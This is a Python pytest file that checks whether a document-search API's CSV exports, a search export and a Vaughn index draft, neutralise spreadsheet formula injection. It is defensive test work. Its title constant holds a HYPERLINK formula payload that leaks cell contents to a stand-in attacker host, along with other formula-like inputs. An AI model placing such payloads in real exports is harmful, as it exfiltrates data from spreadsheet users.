"""CSV exports cannot carry a formula into a spreadsheet, and their snippets are plain text.

A record whose title, text and redaction context start with "=", "+", "-" and "@" goes through the real
stack (reportlab PDF, worker, SQLite, tantivy); the search export and the Vaughn draft are read back
with Python's csv reader, as a spreadsheet would split them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from reportlab.pdfgen.canvas import Canvas

from api.app import create_app
from api.config import ApiSettings
from tests.ingest.conftest import make_stack

API = "/api/v1"
TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"open")'
FIRST_LINE = "=2+5 budget for Tom & Jerry <b>surveillance</b> pilot"
LINES = [FIRST_LINE, "+cmd budget line", "-1+1 budget line", "@SUM(A1:A9) budget line"]
CONTEXT_LINE = ("-2+3 Contact", "(b)(6) at the field office")


def _record(path: Path) -> Path:
    canvas = Canvas(str(path), pagesize=(612, 792), invariant=1)
    canvas.setTitle(TITLE)
    canvas.setFont("Helvetica", 11)
    for i, line in enumerate(LINES):
        canvas.drawString(72, 720 - 16 * i, line)
    y = 720 - 16 * len(LINES)
    canvas.drawString(72, y, CONTEXT_LINE[0])
    canvas.rect(150, y - 3, 80, 13, stroke=0, fill=1)  # a black redaction box, the stamp after it
    canvas.drawString(236, y, CONTEXT_LINE[1])
    canvas.showPage()
    canvas.save()
    return path


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory, analyzer: object) -> Iterator[tuple[TestClient, str]]:
    root = tmp_path_factory.mktemp("csv")
    stack = make_stack(root, analyzer)
    production = stack.production("Formulas", collection="default")
    stack.intake(production, [_record(root / "formulas.pdf")])
    stack.run_until_idle()
    stack.index.refresh()
    app = create_app(stack, ApiSettings(limits=stack.limits, spool_dir=root / "spool"))
    # Open mode (no token): it answers loopback host names only, so the client says 127.0.0.1.
    with TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=False) as test_client:
        yield test_client, production.id
    stack.worker.close()
    stack.index.close()


def _rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def _starts_a_formula(cell: str) -> bool:
    return cell.lstrip()[:1] in {"=", "+", "-", "@"}


def test_search_export_csv_neutralises_formulas_and_has_a_plain_snippet(client: tuple[TestClient, str]) -> None:
    test_client, _ = client
    response = test_client.get(f"{API}/search/export", params={"q": "budget", "format": "csv"})
    assert response.status_code == 200
    rows = _rows(response.text)
    assert len(rows) == 1
    row = rows[0]
    assert row["title"] == "'" + TITLE
    assert row["snippet"].startswith("'=2+5 budget for Tom & Jerry <b>surveillance</b> pilot")
    assert "<mark>" not in row["snippet"] and "&amp;" not in row["snippet"] and "&lt;" not in row["snippet"]
    assert not any(_starts_a_formula(cell) for r in rows for cell in r.values())
    # NDJSON is data, not a spreadsheet: the same fields as written, the snippet marked as HTML.
    ndjson = test_client.get(f"{API}/search/export", params={"q": "budget", "format": "ndjson"}).text
    item = json.loads(ndjson.splitlines()[0])
    assert item["title"] == TITLE
    assert "<mark>budget</mark>" in item["snippet"] and "Tom &amp; Jerry" in item["snippet"]


def test_vaughn_csv_neutralises_formulas(client: tuple[TestClient, str]) -> None:
    test_client, production_id = client
    response = test_client.get(f"{API}/productions/{production_id}/vaughn", params={"format": "csv"})
    assert response.status_code == 200
    rows = _rows(response.text)
    redactions = [r for r in rows if r["withholding"] == "redaction"]
    assert len(redactions) == 1
    assert redactions[0]["title"] == "'" + TITLE
    assert redactions[0]["context"] == f"'{CONTEXT_LINE[0]} [...] {CONTEXT_LINE[1]}"
    assert redactions[0]["codes"] == "b6"
    assert not any(_starts_a_formula(cell) for r in rows for cell in r.values())
    as_json = test_client.get(f"{API}/productions/{production_id}/vaughn").json()["items"]
    assert [r["title"] for r in as_json] == [TITLE]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+2", "'  =1+2"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("\uff1d1+2", "'\uff1d1+2"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (["=a", "b"], "'=a; b"),
        (-3, -3),
        (1.5, 1.5),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    from api.csv_cells import csv_cell

    assert csv_cell(value) == cell  # type: ignore[arg-type]


def test_csv_line_quotes_as_rfc_4180() -> None:
    from api.csv_cells import csv_line

    assert csv_line(["a,b", 'say "hi"', "=x"]) == '"a,b","say ""hi""",\'=x\r\n'


USES_CSV = re.compile(r"^\s*(?:import csv\b|from csv import)", re.MULTILINE)


def test_every_csv_writer_uses_the_shared_cells() -> None:
    """Only api/csv_cells.py may use the csv module: any other writer would skip the neutralising."""
    shared = Path("api/csv_cells.py")
    offenders = [
        str(path)
        for package in ("api", "catalog", "ingest", "nlp", "search", "foia")
        for path in sorted(Path(package).rglob("*.py"))
        if path != shared and USES_CSV.search(path.read_text())
    ]
    assert offenders == []
